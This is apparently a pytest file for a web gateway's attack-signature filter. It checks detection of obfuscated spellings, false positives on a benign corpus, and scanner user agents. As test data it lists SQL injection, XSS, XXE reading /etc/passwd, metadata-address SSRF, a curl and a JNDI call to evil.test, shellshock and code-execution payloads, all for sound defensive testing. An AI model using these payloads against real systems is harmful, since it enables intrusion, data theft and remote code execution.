"""Signatures: each can fire, spelling does not hide anything, and people who mean no harm set off none."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

import pytest

from gateway.filter.canonical import canonical
from gateway.filter.score import MAX_SCANNED, of_user_agent, signs, suspicious
from gateway.filter.signatures import SIGNATURES
from tests.gateway import corpus

ATTACKS: dict[str, str] = {
    "sql.union": "1' UNION ALL SELECT null,null-- -",
    "sql.always_true": "x' or '1'='1",
    "sql.stacked": "1; drop table account",
    "sql.delay": "1 and pg_sleep(5)",
    "sql.function": "extractvalue(1,0x7e)",
    "sql.schema": "information_schema.tables",
    "sql.select": "(select 1 from x)",
    "sql.condition": "1 or name like 'a%'",
    "sql.escape": "admin'-- -",
    "sql.builtin": "concat(0x3a,x)",
    "nosql.operator": '{"$ne": null}',
    "xss.script": "<script>alert(1)</script>",
    "xss.handler": "<img src=x onerror=alert(1)>",
    "xss.active_tag": "<svg/onload=alert(1)>",
    "xss.tag": "<img src=x>",
    "xss.scheme": "javascript:alert(1)",
    "xss.dom": "document.cookie",
    "xss.call": "alert(1)",
    "xss.prototype": "__proto__",
    "xml.entity": '<!ENTITY x SYSTEM "file:///etc/passwd">',
    "xml.document": '<?xml version="1.0"?>',
    "path.up": "../../../../x",
    "path.up_once": "../x",
    "path.system_file": "/etc/passwd",
    "path.named_file": "/var/log/x",
    "url.inner": "http://169.254.169.254/latest/meta-data/",
    "url.wrapper": "php://filter/convert.base64-encode/resource=index",
    "url.scheme": "file:///x",
    "shell.command": "x; curl http://evil.test/x",
    "shell.chain": "a|id",
    "template.lookup": "${jndi:ldap://evil.test/a}",
    "template.expression": "{{7*7}}",
    "code.python": "__import__('os').system('id')",
    "code.java": "java.lang.Runtime.getRuntime()",
    "code.node": "require('child_process')",
    "code.php": "<?php phpinfo();",
    "code.call": "system('id')",
    "http.split": "x\r\nSet-Cookie: a=b",
    "ldap.filter": "*)(uid=*",
}


def names(text: str, *, free_text: bool = False) -> set[str]:
    return {name for name, _ in signs(text, free_text=free_text)}


@pytest.mark.parametrize("signature", SIGNATURES, ids=lambda signature: signature.name)
def test_every_signature_finds_what_it_is_for(signature: Any) -> None:
    attack = ATTACKS[signature.name]
    assert signature.name in names(attack)
    assert (signature.name in names(attack, free_text=True)) == signature.text


@pytest.mark.parametrize(
    "spelling",
    [
        "<script>alert(1)</script>",
        quote("<script>alert(1)</script>"),
        quote(quote("<script>alert(1)</script>")),
        "\\u003cscript\\u003ealert(1)",
        "\\x3cscript\\x3e",
        "&lt;script&gt;alert(1)",
        "&#x3c;script&#62;",
        "%26lt%3bscript%3e",
        "\uff1cscript\uff1ealert(1)",
        "<scr\u200bipt>",
        "<SCRIPT\t>",
        "<scr\u00adipt>",
    ],
)
def test_no_spelling_hides_a_script(spelling: str) -> None:
    assert "xss.script" in names(spelling, free_text=True)


@pytest.mark.parametrize(
    "spelling", ["1 un/**/ion sel/**/ect 2", "1/**/union/**/select 2", "1 /*!50000union*/ /*!select*/ 2"]
)
def test_comments_do_not_hide_sql(spelling: str) -> None:
    found = names(spelling)
    assert found & {"sql.union", "sql.select", "sql.condition", "sql.escape"}


@pytest.mark.parametrize("spelling", ["; c'a't /etc/x", "|w\\hoami;", '; "curl" http://x.test'])
def test_quotes_do_not_hide_a_command(spelling: str) -> None:
    assert names(spelling) & {"shell.command", "shell.chain"}


def test_nobody_who_means_no_harm_is_suspected() -> None:
    """The benign corpus: no false positive, in free text and in identifiers. This is why signatures may count."""
    texts, identifiers = corpus.free_text(), corpus.identifiers()
    assert len(set(texts)) > 900
    assert len(set(identifiers)) > 500
    assert [text for text in texts if suspicious([(text, True)])] == []
    assert [text for text in identifiers if suspicious([(text, False)])] == []


def test_whole_requests_of_harmless_members_stay_below_the_threshold() -> None:
    texts, identifiers = corpus.free_text(), corpus.identifiers()
    bodies = [
        [(texts[i], True), (texts[-i], True), (identifiers[i % len(identifiers)], False)] for i in range(900)
    ]
    assert [body for body in bodies if suspicious(body)] == []


def test_weak_signs_add_up() -> None:
    assert not suspicious([("admin'-- -", False)])
    assert suspicious([("admin'-- -", False), ("concat(0x3a,x)", False)])


def test_only_a_bounded_part_is_looked_at() -> None:
    long = "a" * (MAX_SCANNED + 1)
    assert suspicious([("<script>", True), (long, True)])
    assert suspicious([(long, True), ("<script>", True)]) == ()
    assert len(canonical("%41" * 100_000)) < 10_000


@pytest.mark.parametrize(
    ("agent", "expected"),
    [
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", True),
        ("Mozilla/5.0 (compatible; Nikto/2.5)", True),
        ("${jndi:ldap://evil.test/a}", True),
        ("() { :;}; /bin/bash -c 'x'", True),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0", False),
        ("python-httpx/0.28.1", False),
        ("curl/8.5.0", False),
    ],
)
def test_scanners_are_known_by_their_names(agent: str, expected: bool) -> None:
    assert bool(of_user_agent(agent.encode())) is expected


def test_the_corpus_is_json_that_the_strict_reader_takes() -> None:
    from gateway.filter.strict_json import read

    for text in corpus.free_text():
        assert read(json.dumps({"reason": text}).encode())[0] == {"reason": text}
